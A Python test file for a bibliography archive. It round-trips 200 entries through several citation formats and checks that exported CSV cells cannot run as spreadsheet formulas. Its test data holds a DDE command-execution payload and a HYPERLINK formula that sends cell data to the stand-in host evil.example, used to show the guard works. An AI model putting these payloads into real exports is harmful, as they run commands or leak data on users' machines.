"""Two hundred hostile entries in each form: in, out, in again, the same; and other people's readers agree."""

import csv
import io
import json
import sqlite3
import warnings
from collections.abc import Callable, Iterator
from contextlib import closing
from functools import cache
from pathlib import Path

import bibtexparser
import pytest
import rispy
from hypothesis import given
from hypothesis import strategies as st

from archive.bibliography import written
from archive.bibliography.library import guarded, library, unguarded
from archive.bibliography.words import one_line
from archive.index import read
from archive.model import Entry
from ingest.adding import Order, Source, add, of_library
from ingest.capture import Tools, index
from ingest.exporting import Which, shelved
from ingest.library import Imported, read_library
from tests.libraries import FORMS, Work, works, written_as
from tests.site_archive import Archive, build
from tests.working import elsewhere, working

ADA = Order("Ada")
WORKS = works()
OUT = {"zotero-rdf": "csl-json"}


@pytest.fixture(scope="module")
def warm(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tools]:
    with working(tmp_path_factory.mktemp("warm") / "archive") as held:
        yield held


@pytest.fixture(scope="module")
def cited(tmp_path_factory: pytest.TempPathFactory) -> Archive:
    return build(tmp_path_factory.mktemp("cited"))


def exported(held: Tools, form: str, **which: str) -> str:
    with index(held) as connection:
        return "".join(library(shelved(connection, Which(form, **which)), form))


def said(one: Imported) -> dict[str, object]:
    """What an entry says, without the form that it came in."""
    return {
        "title": one.title, "authors": one.authors, "date": one.date, "uri": one.uri, "doi": one.doi,
        "isbn": one.isbn, "key": one.key, "tags": frozenset(one.tags), "notes": frozenset(one.notes),
        "collections": frozenset(one.collections),
    }  # fmt: skip


def by_lines(note: str) -> str:
    return "\n".join(map(one_line, note.split("\n"))).strip()


def meant(work: Work, form: str) -> dict[str, object]:
    """What the seed says of an entry."""
    names = [written(name) for name in work.authors]
    return {
        "title": one_line(work.title), "authors": None if form == "zotero-rdf" else tuple(names),
        "date": work.date, "uri": work.uri, "doi": work.doi, "isbn": work.isbn, "key": work.key,
        "tags": frozenset(work.tags), "notes": frozenset(map(by_lines, work.notes)),
        "collections": frozenset(name.replace("/", "-") for name in work.collections),
    }  # fmt: skip


Story = Callable[[str], tuple[Tools, str]]


@pytest.fixture(scope="module")
def story(warm: Tools, tmp_path_factory: pytest.TempPathFactory) -> Story:
    """For each form an archive that took the library in, and what it gives out; made when first asked for."""

    @cache
    def told(form: str) -> tuple[Tools, str]:
        held = elsewhere(warm, tmp_path_factory.mktemp("held") / "archive")
        taken = read_library(written_as(form, WORKS).encode(), f"library.{FORMS[form]}")
        assert taken.faults == ()
        report = add(held, of_library(taken, ADA), ADA, capture=False)
        assert len(report.entries) == 200 and all(one.new for one in report.entries) and not report.faults
        return held, exported(held, OUT.get(form, form))

    return told


@pytest.mark.parametrize("form", FORMS)
def test_all_of_it_goes_in(story: Story, form: str) -> None:
    held, _ = story(form)
    taken = {one.key: one for one in read_library(written_as(form, WORKS).encode(), "library").entries}
    for work in WORKS:
        wanted, found = meant(work, form), said(taken[work.key])
        if form == "zotero-rdf":
            wanted["authors"] = found["authors"]
        assert found == wanted, work.key
    with index(held) as connection:
        assert sum(1 for _ in read.entries(connection)) == 200
        assert read.unresolved_entries(connection)


@pytest.mark.parametrize("form", FORMS)
def test_what_goes_out_comes_back_the_same(story: Story, warm: Tools, tmp_path: Path, form: str) -> None:
    held, out = story(form)
    first = {one.key: one for one in read_library(written_as(form, WORKS).encode(), "library").entries}
    back = read_library(out.encode(), "out")
    assert back.faults == () and len(back.entries) == 200
    assert {one.key: said(one) for one in back.entries} == {key: said(one) for key, one in first.items()}
    if form not in OUT:
        journals = {one.key: dict(one.others) for one in back.entries}
        assert journals == {key: dict(one.others) for key, one in first.items()}

    names = set(held.store.names())
    again = add(held, of_library(back, ADA), ADA, capture=False)
    assert not any(one.new for one in again.entries) and set(held.store.names()) == names

    other = elsewhere(warm, tmp_path / "other")
    add(other, of_library(back, ADA), ADA, capture=False)
    assert described(other) == described(held)
    once_more = read_library(exported(other, OUT.get(form, form)).encode(), "again")
    assert {one.key: said(one) for one in once_more.entries} == {one.key: said(one) for one in back.entries}


def described(held: Tools) -> set[tuple[object, ...]]:
    with index(held) as connection:
        return {(e.title, e.authors, e.date, e.uri, e.doi, e.isbn, e.key) for e in read.entries(connection)}


@pytest.mark.parametrize("came", ["zotero-rdf", "biblatex"])
@pytest.mark.parametrize("form", ["bibtex", "biblatex", "ris", "csl-json", "csv"])
def test_other_peoples_readers_read_it(story: Story, form: str, came: str) -> None:
    """Whatever form it came in, every form that goes out."""
    held, _ = story(came)
    out = exported(held, form)
    keys = {work.key for work in WORKS}
    if form in ("bibtex", "biblatex"):
        parsed = bibtexparser.parse_string(out)
        assert parsed.failed_blocks == [] and {entry.key for entry in parsed.entries} == keys
    elif form == "ris":
        found = rispy.loads(out)
        assert {one["id"] for one in found} == keys
        titles = {one["id"]: one.get("title", "") for one in found}
        assert titles == {work.key: one_line(work.title) for work in WORKS}
    elif form == "csl-json":
        items = json.loads(out)
        assert {one["id"] for one in items} == keys
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            citeproc = pytest.importorskip("citeproc", reason="the test group has citeproc-py")
            reader = pytest.importorskip("citeproc.source.json").CiteProcJSON
            style = citeproc.CitationStylesStyle("harvard-cite-them-right", validate=False)
            printed = citeproc.CitationStylesBibliography(style, reader(items), citeproc.formatter.plain)
            for one in items[:20]:
                printed.register(citeproc.Citation([citeproc.CitationItem(one["id"])]))
            assert len(list(printed.bibliography())) == 20
    else:
        assert {line["key"] for line in csv.DictReader(io.StringIO(out, newline=""))} == keys


@pytest.mark.parametrize("form", ["bibtex", "biblatex", "ris", "csl-json", "csv"])
def test_both_addresses_go_out_and_come_back(cited: Archive, warm: Tools, tmp_path: Path, form: str) -> None:
    """The sources of an article, captured or not, and what a second archive makes of them."""
    base, article = "https://archive.example.edu", cited.snapshots["article"].id
    with closing(read.connect(cited.index)) as connection:
        found = list(shelved(connection, Which(form, base, article=article)))
        whole = list(shelved(connection, Which(form, base)))
    assert {one.item.id for one in found} <= {one.item.id for one in whole}
    captured = {one.item.original: one.snapshot for one in found if one.item.kept}
    assert captured and all(address.startswith(base) for address in captured.values())
    back = read_library("".join(library(found, form)).encode(), "out").entries
    assert {one.uri: one.archived for one in back if one.archived} == captured
    assert all(one.notes == () for one in back), "what the machine says of a source is no person's remark"

    other = elsewhere(warm, tmp_path / "other")
    add(
        other,
        of_library(read_library("".join(library(found, form)).encode(), "out"), ADA),
        ADA,
        capture=False,
    )
    again = read_library(exported(other, form).encode(), "again").entries
    assert {one.uri: one.archived for one in again if one.archived} == captured


def test_a_part_of_it_goes_out(warm: Tools, tmp_path: Path) -> None:
    held = elsewhere(warm, tmp_path / "archive")
    entries = [Entry(creator="", created="", title=title, key=title) for title in ("One", "Two", "Three")]
    orders = (Order("Ada", ("x",), ("c",)), Order("Ada", ("x",)), Order("Ada", (), ("c",)))
    for entry, order in zip(entries, orders, strict=True):
        add(held, [Source(order.named(entry))], order, capture=False)

    def keys(**which: str) -> set[str | None]:
        return {one.key for one in read_library(exported(held, "ris", **which).encode(), "x.ris").entries}

    assert keys() == {"One", "Two", "Three"}
    assert (keys(collection="c"), keys(tag="x")) == ({"One", "Three"}, {"One", "Two"})
    assert keys(collection="c", tag="x") == {"One"}
    with closing(sqlite3.connect(held.archive.index)) as connection:
        assert connection.execute("SELECT count(*) FROM entries").fetchone() == (3,)


ODD = (
    "=cmd|' /C calc'!A0",
    "+1 (555)",
    "-1",
    "@SUM(A1)",
    " \t=1",
    "\u00a0=1",
    "a\n=1",
    "'=1",
    "''-x",
    "\uff1d1",
)
PLAIN = ("", "a=b", "it's", "'quoted'", "a - b", "1-2", "'", "a\n\nb")


@pytest.mark.parametrize("cell", [*ODD, *PLAIN])
def test_no_line_of_a_cell_is_a_formula_and_each_comes_back(cell: str) -> None:
    kept = guarded(cell)
    assert not any(line.strip()[:1] in tuple("=+-@\uff1d") for line in kept.split("\n") if line.strip())
    assert unguarded(kept) == cell and (kept == cell) == (cell in PLAIN)


@given(st.text(alphabet="'=+-@ \t\n\ra\u00a0\uff0b"))
def test_whatever_a_cell_holds_comes_back(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell


def test_a_spreadsheet_computes_nothing_of_an_export(warm: Tools, tmp_path: Path) -> None:
    """Titles are what pages call themselves: their makers would choose what an editor's computer runs."""
    heads = "title,author,url,notes,tags\r\n"
    rows = (
        """"=HYPERLINK(""https://evil.example/?""&A1)","+Doe, Jane",https://a.example/,"- one\n@two",-3\r\n"""
        "'=a quoted title,'Doe,https://b.example/,'note,\r\n"
    )
    held = elsewhere(warm, tmp_path / "archive")
    taken = read_library((heads + rows).encode(), "library.csv")
    assert not taken.faults and [one.title for one in taken.entries][1] == "'=a quoted title", (
        "not ours: as it is"
    )
    add(held, of_library(taken, ADA), ADA, capture=False)
    out = exported(held, "csv")
    cells = [cell for row in csv.reader(io.StringIO(out, newline="")) for cell in row]
    assert not [
        cell for cell in cells for line in cell.split("\n") if line.strip()[:1] in tuple("=+-@") and line
    ]
    assert {one.title for one in read_library(out.encode(), "out.csv").entries} == {
        '=HYPERLINK("https://evil.example/?"&A1)',
        "'=a quoted title",
    }
    assert read_library(out.encode(), "out.csv").faults == ()
    back = {json.dumps(said(one), default=sorted) for one in read_library(out.encode(), "out.csv").entries}
    other = elsewhere(warm, tmp_path / "other")
    add(other, of_library(read_library(out.encode(), "out.csv"), ADA), ADA, capture=False)
    again = read_library(exported(other, "csv").encode(), "again.csv").entries
    assert {json.dumps(said(one), default=sorted) for one in again} == back
